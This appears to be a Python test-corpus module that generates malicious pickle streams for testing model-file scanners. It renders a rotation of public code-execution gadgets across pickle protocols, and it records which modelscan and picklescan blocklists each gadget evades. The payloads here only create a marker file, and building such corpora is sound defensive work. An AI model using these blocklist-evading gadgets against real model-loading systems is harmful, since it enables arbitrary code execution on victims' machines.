"""Gadgets from the public record as small expression trees any opcode trick can render.

Why: a trick sample (memo games, INST, EXT codes, a zip member of an odd name, a stream
after a benign one) measures the trick only if its payload is not the one callable every
blocklist names. Public bypasses pair a trick with a gadget picked to dodge blocklists, so
the trick and container samples take their payload from `ROTATION`, in turn. A gadget is
written once as a tree (`G` globals, `Call`s, plain values); `render` turns it into opcodes
with an `Encoding` (which string, tuple and global opcodes a protocol uses) and lets a trick
replace how the gadget's *entry* call (the one marked `entry=True`, normally the callable a
blocklist would look for) is resolved and called. Nothing here imports, calls or loads the
callables it names: they are only strings in byte streams.

Which blocklists name each gadget (modelscan 0.8.8 `unsafe_globals`, picklescan 1.0.5
`_unsafe_globals`, read in their sources) is recorded in `Gadget.blocklisted_by`.
"""

from __future__ import annotations

import pickle as op
import struct
from collections.abc import Callable
from dataclasses import dataclass

from tests.corpus.rawbytes import (
    binbytes,
    binstring,
    dct,
    glob,
    integer,
    lst,
    npy_object_array,
    short_binstring,
    stack_glob,
    string0,
    tup,
    tup0,
    uni,
    wrap,
)


def sh(marker: str) -> str:
    """Shell command that creates the marker."""
    return f"touch {marker}"


def py(marker: str) -> str:
    """Python statement that creates the marker."""
    return f"open({marker!r}, 'w').close()"


def os_system(marker: str) -> bytes:
    """`os.system('touch marker')`: the plainest payload (gadget samples, nested pickles)."""
    return glob("os", "system") + tup(uni(sh(marker))) + op.REDUCE


def os_system_pickle(marker: str, proto: int = 2) -> bytes:
    """A complete pickle stream whose load runs `os.system`."""
    return wrap(os_system(marker) + op.POP + op.NONE, proto)


# ------------------------------------------------------------------ expression trees


@dataclass(frozen=True)
class G:
    """A global `module.name` (GLOBAL / STACK_GLOBAL / INST / EXT, as the trick decides)."""

    module: str
    name: str


@dataclass(frozen=True)
class Call:
    """`fn(*args)`; `entry` marks the call a trick hides (its `fn` must be a `G`)."""

    fn: object
    args: tuple[object, ...] = ()
    entry: bool = False


def entry(module: str, name: str, *args: object) -> Call:
    """The gadget's entry call `module.name(*args)`."""
    return Call(G(module, name), args, entry=True)


def call_(fn: object, *args: object) -> Call:
    """A plain call (REDUCE) on something already built."""
    return Call(fn, args)


def attr(obj: object, name: str) -> Call:
    """`builtins.getattr(obj, name)`: the getattr chain of the public write-ups."""
    return Call(G("builtins", "getattr"), (obj, name))


# ------------------------------------------------------------------ encodings


def _int0(n: int) -> bytes:
    return op.INT + str(n).encode() + b"\n"


def _uni0_ascii(text: str) -> bytes:
    """UNICODE with every non-printable or non-ASCII character as a \\uXXXX escape."""
    out = "".join(c if 32 <= ord(c) < 127 and c != "\\" else f"\\u{ord(c):04x}" for c in text)
    return op.UNICODE + out.encode("ascii") + b"\n"


def _bytes_via_codecs(text_op: Callable[[str], bytes], tuple_op: Callable[..., bytes]):
    """Bytes as protocol 0/1 picklers write them: `_codecs.encode(latin-1 text, 'latin1')`."""

    def encode(raw: bytes) -> bytes:
        args = tuple_op(text_op(raw.decode("latin-1")), text_op("latin1"))
        return glob("_codecs", "encode") + args + op.REDUCE

    return encode


def _list0(*items: bytes) -> bytes:
    return op.MARK + b"".join(items) + op.LIST


def _dict0(pairs: list[tuple[bytes, bytes]]) -> bytes:
    return op.MARK + b"".join(k + v for k, v in pairs) + op.DICT


def _str2(text: str) -> bytes:
    return short_binstring(text) if len(text) < 256 else binstring(text)


def binunicode(text: str) -> bytes:
    """A str via BINUNICODE (4-byte length), the protocol-3 form."""
    raw = text.encode("utf-8")
    return op.BINUNICODE + struct.pack("<I", len(raw)) + raw


@dataclass(frozen=True)
class Encoding:
    """How values and globals become opcodes; the default is what this corpus uses at 2+."""

    s: Callable[[str], bytes] = uni
    b: Callable[[bytes], bytes] = binbytes
    i: Callable[[int], bytes] = integer
    t: Callable[..., bytes] = tup
    lst: Callable[..., bytes] = lst
    d: Callable[[list[tuple[bytes, bytes]]], bytes] = dct
    none: bytes = op.NONE
    true: bytes = op.NEWTRUE
    false: bytes = op.NEWFALSE
    g: Callable[[str, str], bytes] = glob


BASE = Encoding()
# Protocol 0: text opcodes only (no byte >= 0x80 anywhere, no PROTO header).
ENC0 = Encoding(s=string0, b=_bytes_via_codecs(_uni0_ascii, tup0), i=_int0, t=tup0,
                lst=_list0, d=_dict0, true=op.INT + b"01\n", false=op.INT + b"00\n")  # fmt: skip
# Protocol 1: BINSTRING, MARK...TUPLE, no NEWTRUE.
ENC1 = Encoding(s=binstring, b=_bytes_via_codecs(binunicode, tup0), t=tup0,
                true=op.INT + b"01\n", false=op.INT + b"00\n")  # fmt: skip
ENC2 = Encoding(s=_str2)
ENC3 = Encoding(s=binunicode)
# Protocol 4 as CPython writes it: every string memoized, globals via STACK_GLOBAL.
ENC4 = Encoding(
    s=lambda x: uni(x) + op.MEMOIZE,
    g=lambda m, n: uni(m) + op.MEMOIZE + uni(n) + op.MEMOIZE + op.STACK_GLOBAL + op.MEMOIZE,
)
ENC5 = Encoding(g=stack_glob)


# (module, name, encoded args) -> bytes leaving the call's result on the stack.
EntryRenderer = Callable[[str, str, list[bytes]], bytes]


def render(node: object, enc: Encoding = BASE, at_entry: EntryRenderer | None = None) -> bytes:
    """Opcodes that leave `node`'s value on the stack; `at_entry` renders the entry call."""
    if isinstance(node, Call):
        args = [render(a, enc, at_entry) for a in node.args]
        if node.entry and at_entry is not None:
            if not isinstance(node.fn, G):
                raise TypeError("an entry call's callable must be a global")
            return at_entry(node.fn.module, node.fn.name, args)
        return render(node.fn, enc, at_entry) + enc.t(*args) + op.REDUCE
    if isinstance(node, G):
        return enc.g(node.module, node.name)
    if node is None:
        return enc.none
    if isinstance(node, bool):
        return enc.true if node else enc.false
    if isinstance(node, int):
        return enc.i(node)
    if isinstance(node, str):
        return enc.s(node)
    if isinstance(node, bytes):
        return enc.b(node)
    if isinstance(node, tuple):
        return enc.t(*(render(x, enc, at_entry) for x in node))
    if isinstance(node, list):
        return enc.lst(*(render(x, enc, at_entry) for x in node))
    if isinstance(node, dict):
        return enc.d([(render(k, enc, at_entry), render(v, enc, at_entry))
                      for k, v in node.items()])  # fmt: skip
    raise TypeError(f"no opcode encoding for {type(node).__name__}")


def pushing(pusher: Callable[[str, str], bytes], enc: Encoding = BASE) -> EntryRenderer:
    """An entry renderer from a trick that only changes how the callable is pushed."""
    return lambda module, name, args: pusher(module, name) + enc.t(*args) + op.REDUCE


# ------------------------------------------------------------------ the rotation


@dataclass(frozen=True)
class Gadget:
    """One public gadget: its tree over the marker path and where it comes from.

    `inst_ok` is False when the entry call is a class called with no arguments: INST and OBJ
    then only call `cls.__new__(cls)` (pickle's `instantiate`), so `__init__` never runs.
    """

    key: str
    label: str
    blocklisted_by: str
    record: str
    build: Callable[[str], Call]
    inst_ok: bool = True

    @property
    def unary(self) -> bool:
        """The whole gadget is `module.name(arg)`: usable as `__setstate__` or `append`."""
        tree = self.build("m")
        return tree.entry and isinstance(tree.fn, G) and len(tree.args) == 1


_NPY = "numpy.load(BytesIO(.npy of object dtype), None, True): inner os.system pickle"

ROTATION: list[Gadget] = [
    Gadget("os_system", "os.system(cmd)", "modelscan, picklescan",
           "every write-up's baseline", lambda m: entry("os", "system", sh(m))),
    Gadget("pkgutil_resolve_name", "pkgutil.resolve_name('os:system')(cmd)", "picklescan",
           "picklescan advisory on pkgutil.resolve_name (fixed in picklescan 0.0.31)",
           lambda m: call_(entry("pkgutil", "resolve_name", "os:system"), sh(m))),
    Gadget("ensurepip_run_pip", "ensurepip._run_pip(args, additional_paths=code)", "picklescan",
           "picklescan blocklist entry ensurepip._run_pip (code pasted into python -c)",
           lambda m: entry("ensurepip", "_run_pip", ["--version"],
                           f"__import__('os').system({sh(m)!r}) or []")),
    Gadget("subprocess_popen", "subprocess.Popen(argv)", "modelscan, picklescan",
           "baseline shell gadget", lambda m: entry("subprocess", "Popen", ["touch", m])),
    Gadget("timeit_setup", "timeit.timeit('pass', setup=code, timer, 1)", "picklescan",
           "picklescan blocklist entry timeit (setup string is exec'd)",
           lambda m: entry("timeit", "timeit", "pass", py(m), G("time", "perf_counter"), 1)),
    Gadget("operator_methodcaller", "operator.methodcaller('system', cmd)(tempfile._os)",
           "picklescan", "picklescan blocklist entry operator.methodcaller; os via tempfile._os",
           lambda m: call_(entry("operator", "methodcaller", "system", sh(m)),
                           G("tempfile", "_os"))),
    Gadget("builtins_exec", "builtins.exec(code)", "modelscan, picklescan",
           "baseline exec gadget", lambda m: entry("builtins", "exec", py(m))),
    Gadget("pydoc_pipepager", "pydoc.pipepager('', cmd)", "picklescan",
           "picklescan blocklist entry pydoc (pipepager runs cmd with shell=True)",
           lambda m: entry("pydoc", "pipepager", "", sh(m))),
    Gadget("torch_collect_env_run", "torch.utils.collect_env.run(cmd)", "picklescan",
           "picklescan blocklist entry torch.utils.collect_env.run (shell=True for str)",
           lambda m: entry("torch.utils.collect_env", "run", sh(m))),
    Gadget("code_interpreter_runsource",
           "getattr(code.InteractiveInterpreter(), 'runsource')(code)", "modelscan, picklescan",
           "picklescan advisory on code.InteractiveInterpreter; here through builtins.getattr",
           lambda m: call_(attr(entry("code", "InteractiveInterpreter"), "runsource"), py(m)),
           inst_ok=False),
    Gadget("cprofile_run", "cProfile.run(code)", "picklescan",
           "picklescan blocklist entry cProfile (run() exec's its statement)",
           lambda m: entry("cProfile", "run", py(m))),
    Gadget("numpy_load_nested", _NPY, "neither",
           "nested deserializer: numpy.load with allow_pickle (JFrog / picklescan TODO list)",
           lambda m: entry("numpy", "load",
                           call_(G("io", "BytesIO"), npy_object_array(os_system_pickle(m))),
                           None, True)),
    Gadget("importlib_getattr", "getattr(importlib.import_module('os'), 'system')(cmd)",
           "modelscan, picklescan", "import machinery + getattr chain",
           lambda m: call_(attr(entry("importlib", "import_module", "os"), "system"), sh(m))),
    Gadget("numpy_runstring", "numpy.testing._private.utils.runstring(code, {})", "picklescan",
           "picklescan blocklist entry numpy.testing._private.utils (runstring is exec)",
           lambda m: entry("numpy.testing._private.utils", "runstring", py(m), {})),
    Gadget("torch_load_nested", "torch.load(BytesIO(inner), None, pickle module): weights_only off",
           "neither", "nested deserializer: explicit pickle_module disables weights_only",
           lambda m: entry("torch", "load", call_(G("io", "BytesIO"), os_system_pickle(m)),
                           None, G("torch.serialization", "pickle"))),
    Gadget("runpy_run_code", "runpy._run_code(code, {})", "modelscan, picklescan",
           "baseline exec gadget (runpy)", lambda m: entry("runpy", "_run_code", py(m), {})),
    Gadget("bdb_run", "getattr(bdb.Bdb(), 'run')(code)", "modelscan, picklescan",
           "debugger run() exec's its statement",
           lambda m: call_(attr(entry("bdb", "Bdb"), "run"), py(m)), inst_ok=False),
]  # fmt: skip


def any_gadget(g: Gadget) -> bool:
    return True


def inst_ok(g: Gadget) -> bool:
    return g.inst_ok


def unary(g: Gadget) -> bool:
    return g.unary


class Rotation:
    """Deterministic walk over `ROTATION`: each sample takes the gadget after the previous
    one, skipping those its trick cannot carry (`need`)."""

    def __init__(self, start: int = 0) -> None:
        self.position = start

    def next(self, need: Callable[[Gadget], bool] = any_gadget) -> Gadget:
        n = len(ROTATION)
        for k in range(n):
            g = ROTATION[(self.position + k) % n]
            if need(g):
                self.position += k + 1
                return g
        raise LookupError("no gadget in the rotation fits this trick")


def gadget_body(marker: str, g: Gadget, enc: Encoding = BASE,
                at_entry: EntryRenderer | None = None) -> bytes:  # fmt: skip
    """Opcodes that run gadget `g` (creating `marker`) and leave its result on the stack."""
    return render(g.build(marker), enc, at_entry)


def gadget_pickle(marker: str, g: Gadget, proto: int = 2) -> bytes:
    """A complete pickle stream whose load runs gadget `g`."""
    return wrap(gadget_body(marker, g) + op.POP + op.NONE, proto)


def rotation_doc() -> str:
    """The rotation as a bullet list (kept in `malicious.py`'s docstring)."""
    return "\n".join(f"- {g.key}: {g.label} [{g.blocklisted_by}]" for g in ROTATION)


__all__ = [
    "BASE", "ENC0", "ENC1", "ENC2", "ENC3", "ENC4", "ENC5", "ROTATION", "Call", "Encoding",
    "G", "Gadget", "Rotation", "any_gadget", "attr", "binunicode", "call_", "entry",
    "gadget_body", "gadget_pickle", "inst_ok", "os_system", "os_system_pickle", "pushing",
    "py", "render", "sh", "unary",
]  # fmt: skip
